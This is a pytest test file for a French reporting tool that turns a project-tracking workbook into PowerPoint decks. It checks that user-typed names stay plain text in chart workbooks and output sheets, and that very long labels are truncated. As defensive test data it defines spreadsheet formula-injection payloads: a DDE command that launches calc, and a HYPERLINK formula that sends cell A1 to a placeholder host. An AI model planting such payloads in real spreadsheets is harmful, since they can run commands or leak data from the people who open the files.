"""What users type never turns into something else in what the software writes.

- Text behind a chart (the workbook embedded in each chart, which PowerPoint opens with *Modifier
  les données*) stays text: a famille or a motif typed ``=HYPERLINK(…)`` is not a formula there,
  a URL is not a link.
- A very long text (a libellé pasted 30 000 characters long) costs no more than a short one and is
  shown cut, ending with « … », on slides and in the output sheets.
"""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from pptx import Presentation

from opc_excel.cli.commands import DEMO_DECKS
from opc_excel.pipeline import check_file, refresh_file, write_outputs
from opc_excel.read import contract
from opc_excel.render.decks import build_deck
from opc_excel.render.decks.gantt import LABEL_PT, LABEL_WIDTH, _clip
from opc_excel.render.decks.look import text_lines
from opc_excel.text import NAME_CAP, NOTES_CAP, TEXT_CAP, TITLE_CAP, plain, shorten, shorten_quotes
from tests.factory import clean_sheets, set_value, write_workbook

TODAY = date(2026, 1, 1)
IDS = [f"{kind}-{theme}" if theme else kind for kind, theme in DEMO_DECKS]

# What a spreadsheet would take for a formula, a link or a number if it were not written as text.
HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
DDE = "=cmd|' /C calc'!A0"
URL = "http://exemple.invalid/page"
PLUS = "+1+1"
AT_SIGN = "@SUM(1+1)"
NUMBER = "123"


def write_as_text(path: Path, sheets: dict) -> Path:
    """Write the sheets, every text cell as text (openpyxl would make ``=…`` a formula)."""
    write_workbook(path, sheets)
    workbook = openpyxl.load_workbook(path)
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    workbook.save(path)
    return path


def add_to_list(sheets: dict, list_name: str, value: str) -> None:
    listes = sheets[contract.LISTES]
    col = listes[0].index(list_name)
    row = next((r for r in listes[1:] if r[col] is None), None)
    if row is None:
        row = [None] * len(listes[0])
        listes.append(row)
    row[col] = value


@pytest.fixture(scope="module")
def tricky_report(tmp_path_factory):
    """A small programme whose names are formulas, links and numbers, all valid list values."""
    sheets = clean_sheets()
    for list_name, value in ((contract.FAMILLES, HYPERLINK), (contract.FAMILLES, DDE), (contract.MOTIFS, URL),
                             (contract.QUARTIERS, PLUS), (contract.MAITRES_OUVRAGE, AT_SIGN),
                             (contract.FINANCEURS, NUMBER)):
        add_to_list(sheets, list_name, value)
    set_value(sheets, "Opérations", 2, "Famille", HYPERLINK)  # PER-AME-01
    set_value(sheets, "Opérations", 3, "Famille", DDE)  # COU-REH-01
    set_value(sheets, "Opérations", 1, "Libellé", HYPERLINK)
    set_value(sheets, "Opérations", 2, "Quartier", PLUS)
    set_value(sheets, "Opérations", 2, "Maître d'ouvrage", AT_SIGN)
    set_value(sheets, "Jalons", 2, "Motif de décalage", URL)  # PER-DEM-01's late works start
    set_value(sheets, "Jalons", 3, "Motif de décalage", URL)
    set_value(sheets, "Financements", 2, "Financeur", NUMBER)
    path = write_as_text(tmp_path_factory.mktemp("tricky") / "classeur.xlsx", sheets)
    report = check_file(path, at=None, today=TODAY)
    assert not report.blocking, [p.message for p in report.blocking]
    return report


def chart_workbooks(pptx: bytes) -> list[tuple[str, bytes]]:
    """Return (name, bytes) of every workbook embedded behind a chart of the deck."""
    deck = zipfile.ZipFile(io.BytesIO(pptx))
    return [(name, deck.read(name)) for name in deck.namelist()
            if name.startswith("ppt/embeddings/") and name.endswith(".xlsx")]


class DescribeTheWorkbookBehindEachChart:
    @pytest.mark.parametrize(("kind", "theme"), DEMO_DECKS, ids=IDS)
    def it_keeps_every_name_as_text_never_a_formula_a_link_or_a_number(self, tricky_report, kind, theme):
        embedded = chart_workbooks(build_deck(tricky_report, kind, theme=theme))
        for name, blob in embedded:
            package = zipfile.ZipFile(io.BytesIO(blob))
            sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
            assert "<f>" not in sheet_xml and "<f " not in sheet_xml, name
            assert "hyperlink" not in sheet_xml.lower(), name
            assert not any("hyperlink" in part.lower() or "externalLink" in part for part in package.namelist())
            ws = openpyxl.load_workbook(io.BytesIO(blob), data_only=False).active
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f" and cell.hyperlink is None, (name, cell.coordinate, cell.value)
            header = [c.value for c in ws[1]]
            categories = [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]
            assert all(isinstance(v, str) for v in header[1:] if v is not None), (name, header)
            # categories: names as text, or the dates of a time axis (computed, never typed by a user)
            assert all(isinstance(v, str) for v in categories if v is not None) or all(
                isinstance(v, datetime) for v in categories), (name, categories[:3])

    def it_shows_the_formula_like_names_as_typed_in_the_chart_and_behind_it(self, tricky_report):
        texts = []
        for kind, theme in DEMO_DECKS:
            for _, blob in chart_workbooks(build_deck(tricky_report, kind, theme=theme)):
                ws = openpyxl.load_workbook(io.BytesIO(blob)).active
                texts += [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert HYPERLINK in texts and DDE in texts and URL in texts  # familles, motif: as typed, as text

    def it_keeps_the_names_as_text_in_the_output_sheets(self, tricky_report, tmp_path):
        workbook = openpyxl.Workbook()
        write_outputs(workbook, tricky_report)
        path = tmp_path / "sorties.xlsx"
        workbook.save(path)
        reread = openpyxl.load_workbook(path)
        seen = set()
        for ws in reread.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
        assert {HYPERLINK, DDE, PLUS, AT_SIGN} <= seen


def slide_strings(pptx: bytes) -> tuple[list[str], list[str]]:
    """Return every text of every slide (paragraphs, table cells, chart categories and series), and the notes."""
    texts, notes = [], []
    for slide in Presentation(io.BytesIO(pptx)).slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                texts.extend(p.text for p in shape.text_frame.paragraphs)
            if shape.has_table:
                texts.extend(cell.text for row in shape.table.rows for cell in row.cells)
            if shape.has_chart:
                texts.extend(str(c) for c in shape.chart.plots[0].categories)
                texts.extend(s.name for s in shape.chart.plots[0].series)
        notes.append(slide.notes_slide.notes_text_frame.text)
    return texts, notes



LONG = 30_000
LIBELLE = ("Démolition-reconstruction de la résidence des Tilleuls, bâtiments A à F " * 500)[:LONG]
MOTIF = ("Recours contentieux sur le permis de démolir puis reprise des études " * 500)[:LONG]
UNKNOWN_MOTIF = ("Motif hors liste saisi à la main par erreur et beaucoup trop long " * 500)[:LONG]


@pytest.fixture(scope="module")
def long_workbook(tmp_path_factory) -> Path:
    """A small programme with a 30 000-character libellé, a motif as long (in Listes) and another off the list."""
    sheets = clean_sheets()
    add_to_list(sheets, contract.MOTIFS, MOTIF)
    set_value(sheets, "Opérations", 1, "Libellé", LIBELLE)  # PER-DEM-01, late: in alerts, Gantt, tables
    set_value(sheets, "Jalons", 2, "Motif de décalage", UNKNOWN_MOTIF)  # quoted by Contrôles
    set_value(sheets, "Jalons", 3, "Motif de décalage", MOTIF)  # PER-DEM-01's late delivery
    sheets["Jalons"].append(["PER-DEM-01", "Début du relogement", datetime(2010, 1, 1), None, None,
                             datetime(2010, 1, 1), None, None])  # its relogement behind plan: HAB-03 on PER-DEM-01
    return write_as_text(tmp_path_factory.mktemp("long") / "classeur.xlsx", sheets)


@pytest.fixture(scope="module")
def long_report(long_workbook):
    return check_file(long_workbook, at=None, today=TODAY)


def shortened(texts: list[str], start: str) -> list[str]:
    """Return the texts that hold the first words of ``start`` and were cut (« … »)."""
    return [t for t in texts if start[:30] in t and "…" in t]


class DescribeAVeryLongText:
    @pytest.mark.parametrize(("kind", "theme"), DEMO_DECKS, ids=IDS)
    def it_is_cut_with_an_ellipsis_on_every_slide_of_every_deck(self, long_report, kind, theme):
        texts, notes = slide_strings(build_deck(long_report, kind, theme=theme))  # took minutes uncapped
        assert all(len(t) <= TEXT_CAP for t in texts) and all(len(n) <= NOTES_CAP for n in notes)
        shown = [t for t in texts + notes if LIBELLE[:30] in t or MOTIF[:30] in t]
        assert all("…" in t for t in shown)  # (the réunion financière names no operation)

    def it_shows_the_start_of_the_libelle_and_an_ellipsis_in_the_gantt_and_the_tables(self, long_report):
        slides = Presentation(io.BytesIO(build_deck(long_report, "reunion-restreinte", theme="technique"))).slides
        gantt = next(s for s in slides if any(shape.name.startswith("Gantt") for shape in s.shapes))
        label = next(plain(s.text_frame.text) for s in gantt.shapes if s.has_text_frame
                     and plain(s.text_frame.text).startswith("PER-DEM-01"))
        assert label.startswith("PER-DEM-01 — Démolition-re") and label.endswith("…")
        assert len(label) < 60  # one line of the label column
        cells = [cell.text for slide in slides for shape in slide.shapes if shape.has_table
                 for row in shape.table.rows for cell in row.cells]
        named = [c for c in cells if "Démolition-reconstruction" in c]
        assert named and all(c.endswith("…") and len(c) <= TEXT_CAP for c in named)

    def it_shows_a_motif_in_a_table_as_a_name_not_a_paragraph(self, long_report):
        cells = []
        for kind, theme in DEMO_DECKS:
            for slide in Presentation(io.BytesIO(build_deck(long_report, kind, theme=theme))).slides:
                cells += [c.text for shape in slide.shapes if shape.has_table
                          for row in shape.table.rows for c in row.cells]
        motifs = [c for c in cells if c.startswith(MOTIF[:30])]
        assert motifs and all(c.endswith("…") and len(c) <= NAME_CAP for c in motifs)

    def it_keeps_titles_and_cells_readable(self, long_report):
        for kind, theme in DEMO_DECKS:
            for slide in Presentation(io.BytesIO(build_deck(long_report, kind, theme=theme))).slides:
                assert len(slide.shapes.title.text) <= TITLE_CAP
                for shape in slide.shapes:
                    if shape.has_table:
                        assert all(len(c.text) <= TEXT_CAP for row in shape.table.rows for c in row.cells)

    def it_is_cut_in_the_output_sheets_but_the_users_notes_are_kept_whole(self, long_workbook, tmp_path):
        refresh_file(long_workbook, at=None, today=TODAY, out=tmp_path / "un.xlsx")
        workbook = openpyxl.load_workbook(tmp_path / "un.xlsx")
        alertes = workbook["Alertes"]
        header = [c.value for c in alertes[3]]
        note_col = header.index("Commentaire") + 1
        row = next(r for r in range(4, alertes.max_row + 1)
                   if alertes.cell(r, header.index("ID opération") + 1).value == "PER-DEM-01")
        operation = alertes.cell(row, header.index("Opération") + 1).value
        assert operation.startswith("Démolition-reconstruction") and operation.endswith("…")
        alertes.cell(row, note_col).value = LIBELLE  # a note as long is the user's: kept whole
        workbook.save(tmp_path / "annoté.xlsx")
        refresh_file(tmp_path / "annoté.xlsx", at=None, today=TODAY, out=tmp_path / "deux.xlsx")
        again = openpyxl.load_workbook(tmp_path / "deux.xlsx")
        kept = [c for row in again["Alertes"].iter_rows() for c in row if c.value == LIBELLE]
        assert len(kept) == 1
        assert again["Alertes"].row_dimensions[kept[0].row].height <= 409  # Excel's tallest row
        controles = [c.value for row in again["Contrôles"].iter_rows() for c in row if isinstance(c.value, str)]
        quoting = [t for t in controles if UNKNOWN_MOTIF[:30] in t]
        assert quoting and all("…" in t and len(t) <= TEXT_CAP for t in quoting)
        assert any(t.endswith("Motifs de décalage") or "choisissez" in t for t in quoting)  # the advice is kept
        for ws in again.worksheets:
            if ws.title in contract.OUTPUT_SHEETS and ws.title not in ("Alertes", "Historique jalons"):
                assert all(len(c.value) <= TEXT_CAP for row in ws.iter_rows() for c in row
                           if isinstance(c.value, str)), ws.title


def clip_one_character_at_a_time(text: str, width: int, size: float) -> str:
    """The Gantt label clipping as it was (quadratic): the cut the faster one must give."""
    if text_lines(text, width - 182_880, size) <= 1:
        return text
    while len(text) > 4 and text_lines(text + "…", width - 182_880, size) > 1:
        text = text[:-1]
    return text.rstrip() + "…"


class DescribeGanttLabels:
    @pytest.mark.parametrize("text", [
        "", "PER-DEM-01 — Démolition", "PER-DEM-01 — " + "Démolition de la barre Ronsard " * 4,  # short, cut
        "PER-DEM-01 — " + "x" * 300,  # one word longer than the line
        "   " + "W" * 80, "a\nb" + "c " * 60, "WWWWWWWWWWWW", "PER-DEM-01 —" + " " * 200 + "fin",
        "Famille très longue de la reconstitution de l'offre hors site (12)",
    ])
    @pytest.mark.parametrize("width", [LABEL_WIDTH, 400_000])
    def it_cuts_labels_where_cutting_one_character_at_a_time_did(self, text, width):
        assert _clip(text, width, LABEL_PT) == clip_one_character_at_a_time(text, width, LABEL_PT)


class DescribeShorten:
    @pytest.mark.parametrize(("text", "limit", "expected"), [
        ("Aménagement", 100, "Aménagement"),  # short enough: as is
        ("x" * 100, 100, "x" * 100),  # exactly the cap
        ("Réhabilitation de la résidence des Tilleuls", 30, "Réhabilitation de la…"),  # cut after a word
        ("x" * 50, 10, "x" * 9 + "…"),  # no word end near the cap: cut inside the word
        ("Ronsard — bâtiment A, B et C", 12, "Ronsard…"),  # no dash or comma left before « … »
    ])
    def it_cuts_at_the_cap_and_ends_with_an_ellipsis(self, text, limit, expected):
        assert shorten(text, limit) == expected
        assert len(shorten(text, limit)) <= limit

    def it_cuts_the_quoted_value_and_keeps_the_advice(self):
        message = f"« {'Recours ' * 40}» ne figure pas dans la liste « Motifs de décalage » : choisissez une valeur."
        cut = shorten_quotes(message, 40)
        assert cut.startswith("« Recours Recours") and "… » ne figure pas dans la liste « Motifs de décalage »" in cut
        assert cut.endswith("choisissez une valeur.") and len(cut) < 140
